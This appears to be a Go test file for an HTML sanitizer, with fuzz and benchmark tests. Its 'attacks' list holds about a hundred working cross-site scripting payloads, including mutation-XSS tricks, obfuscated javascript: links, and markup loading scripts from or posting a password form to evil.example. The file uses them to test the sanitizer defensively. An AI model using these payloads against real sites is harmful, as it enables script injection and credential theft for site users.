package richtext

import (
	"fmt"
	"strings"
	"testing"
)

// attacks are texts that once ran a script somewhere. checkClean, which every case passes through, is the contract.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="/f/x.png" onerror="alert(1)">`, `<img src="/f/x.png"onload=alert(1)//`,
	`<img src="/f/../api/logout">`, `<img src="/f/%2e%2e/api/logout">`, `<img src="/f/\..\x">`, `<img src="//evil.example/f/x.png">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="javascript:alert(1)">`, `<img srcset="x 1x, y 2x" src="">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg/onload=alert(1)//`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>`,
	`<svg><p><style><g title="</style><img src onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<svg><desc><noscript><style></noscript><img src onerror=alert(1)></style>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`, `<plaintext><img src=x onerror=alert(1)>`, `<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	`<title></title><img src=x onerror=alert(1)></title>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe></iframe><img src onerror=alert(1)></iframe>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="java&#10;script:alert(1)">x</a>`, `<a href="&#106;avascript:alert(1)">x</a>`, `<a href="javascript&colon;alert(1)">x</a>`, "<a href=\"\u200bjavascript:alert(1)\">x</a>",
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="/\evil.example">x</a>`, `<a href="\\evil.example">x</a>`,
	`<a href="https:\\evil.example">x</a>`, `<a href="https:evil">x</a>`, `<a href="///evil.example">x</a>`, `<a href="/a" style="position:fixed;inset:0">x</a>`,
	`<a href='https://evil.example/"onmouseover="alert(1)'>x</a>`, `<a href="https://a.example/?q=<b>'x'">x</a>`, `<a href="https://a.example/?a=1;b=%zz&c=%">x</a>`,
	`<a href="https://[::1]:80/">x</a>`, `<a href="https://教育.中国/路径?键=值#段">x</a>`, `<a href="mailto:a@b.cn?subject=x y&body=%0a">x</a>`, `<a href="tel:+86 21 6412">x</a>`,
	`<form action=//evil.example><input name=p type=password><button>登录</button></form>`, `<button formaction=javascript:alert(1)>x</button>`,
	`<object data="javascript:alert(1)"><p>x</p></object>`, `<embed src=//evil.example/x.swf>`, `<applet code=x>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<style>@import url(//evil.example)</style>`, `<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example>`,
	`<body onload=alert(1)>`, `<html onmouseover=alert(1)>`, `<div style="background:url(javascript:alert(1))">x</div>`, `<table background=javascript:alert(1)><td background=x>y`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<!--><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>-->`, `<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml <img src=x onerror=alert(1)>?>`,
	`<p/onclick=alert(1)>x`, `<p onclick&#61;alert(1)>x`, `<<p>x`, `<p <script>alert(1)</script>`, `</p onclick=alert(1)>`, `<p title='a">b'>x`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `<p>&lt;img src=x onerror=alert(1)&gt;</p>`, `<p>&amp;lt;b&amp;gt;</p>`, "<p>a\x00b<im\x00g src=x></p>",
	`<select><template><b>x</select><img src=x onerror=alert(1)>`, `<a><table><a><b><td><a>x</table>y`, `<table><tr><td><table><p>a</table><b>c`,
	`<b><b><b><b><b>x</p>y<p>z`, `<li><ul><li></ul><table><li>x`, `<h1><h2>x</h1>y</h2>z`, `<p><table><p><td>x</p></table>y`, `<ruby>字<rp>(<rt>zì</ruby>`,
	`<frameset><frame src=x></frameset>`, `<image src=x onerror=alert(1)>`, `<isindex action=x>`, `<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`,
	`<custom-element onfocus=alert(1) autofocus>x</custom-element>`, `<a href="/a"><p>x<a href="/b">y</a></p>z</a>`, `<caption>x</caption><td>y</td>`, `<table><caption><table><td>x</table>y</caption></table>`,
	`<u>&nbsp;</u><u>&nbsp;&nbsp;</u><u>x&nbsp;<b></b>&nbsp;y &nbsp; z</u>`, `a<br> <br>b<ul>c<br><br><br>d</ul>`, `<h2>a<blockquote>b<table><td>c</table></blockquote>d</h2>`,
}

func TestAttacks(t *testing.T) {
	for _, source := range attacks {
		got := clean(t, source)
		clean(t, "<table><td>"+source)
		clean(t, "<ul><li><b>"+source+"</b>"+source)
		if strings.Contains(source, "evil") && strings.Contains(got.HTML, "<img") {
			t.Errorf("%q keeps an image: %q", source, got.HTML)
		}
	}
}

func TestNotes(t *testing.T) {
	for _, tt := range []struct{ name, source, html, notes string }{
		{"external images are counted", `<p>甲<img src="https://a.example/1.jpg"><img src="data:image/png;base64,x"></p>`, "<p>甲</p>", "[{external_image_removed 2}]"},
		{"scripts are counted", `<p>甲</p><script>x</script>`, "<p>甲</p>", "[{script_removed 1}]"},
		{"embedded things are counted, the text of a form stays", `<form>姓名<input></form><iframe src=x></iframe>`, "<p>姓名</p>", "[{embed_removed 2}]"},
		{"a link to an office network is dropped and its text kept", `<a href="http://10.1.2.3:8080/oa">甲</a><a href="http://192.168.0.1">乙</a><a href="https://172.31.255.1/">丙</a>`, "<p>甲乙丙</p>", "[{private_link_removed 3}]"},
		{"a link to one's own machine is dropped", `<a href="http://localhost:8090/_/">甲</a><a href="http://127.0.0.1">乙</a><a href="http://[::1]/">丙</a><a href="http://127.1/">丁</a><a href="http://2130706433/">戊</a>`, "<p>甲乙丙丁戊</p>", "[{private_link_removed 5}]"},
		{"a link to a name of the office network is dropped", `<a href="http://oa/x">甲</a><a href="http://nas.local/">乙</a>`, "<p>甲乙</p>", "[{private_link_removed 2}]"},
		{"a link to a file on a disk is dropped", `<a href="file:///C:/x.doc">甲</a><a href="\\server\share">乙</a>`, "<p>甲乙</p>", "[{private_link_removed 2}]"},
		{"a public address that looks similar stays", `<a href="http://172.32.0.1/">甲</a>`, `<p><a href="http://172.32.0.1/" rel="nofollow noopener">甲</a></p>`, "[]"},
		{"a script as a link is dropped", `<a href="javascript:void(0)">甲</a>`, "<p>甲</p>", "[{bad_link_removed 1}]"},
		{"too many levels become plain text", strings.Repeat("<div>", 600) + "甲<p>乙", "<p>甲</p><p>乙</p>", "[{structure_flattened 1}]"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := clean(t, tt.source)
			if got.HTML != tt.html {
				t.Errorf("got %s, want %s", got.HTML, tt.html)
			}
			type plain Note
			notes := []plain{}
			for _, n := range got.Notes {
				notes = append(notes, plain(n))
				if s := n.String(); s == "" || strings.Contains(s, "%!") {
					t.Errorf("%v reads %q", n.Code, s)
				}
			}
			if s := fmt.Sprint(notes); s != tt.notes {
				t.Errorf("got %s, want %s", s, tt.notes)
			}
		})
	}
}

func TestDeepNesting(t *testing.T) {
	for _, tag := range []string{"ul", "ul><li", "blockquote", "table><tr><td", "b", "div", "section"} {
		for _, depth := range []int{10, 39, 40, 41, 120} {
			t.Run(fmt.Sprintf("%d times <%s> is cleaned", depth, tag), func(t *testing.T) {
				if got := clean(t, strings.Repeat("<"+tag+">甲", depth)); Text(got.HTML) == "" {
					t.Error("the text is gone")
				}
			})
		}
	}
}

// floods are pieces that, repeated, made parsers take time that grows with the square of the length.
var floods = []string{"<b>", "<a href=/a>x", "<table>x", "<p><b>x", "<svg>", "</p>", "&nbsp;<u>", "<font color=a>x</p>", "<!--", "<!--x--", "<li>x",
	"<select>x", "<b a=1><p>", "<i><table>", "<a b='", "</", "<script>"}

func TestFloods(t *testing.T) {
	for _, piece := range floods {
		t.Run("many times "+piece+" is cleaned", func(t *testing.T) {
			clean(t, strings.Repeat(piece, 32<<10/len(piece)))
		})
	}
}

// BenchmarkFloods is to be looked at when the parser is updated: no megabyte should take as long as a second.
func BenchmarkFloods(b *testing.B) {
	for _, piece := range floods {
		b.Run(piece, func(b *testing.B) {
			source := strings.Repeat(piece, MaxText/len(piece))
			for b.Loop() {
				_, _ = Clean(source) // some grow over MaxText
			}
		})
	}
}

func FuzzClean(f *testing.F) {
	for _, s := range attacks {
		f.Add(s)
	}
	f.Add(sample(f, "word"))
	f.Add(sample(f, "wechat"))
	f.Fuzz(func(t *testing.T, source string) {
		if got, err := Clean(source); err == nil {
			checkClean(t, source, got.HTML)
		}
	})
}
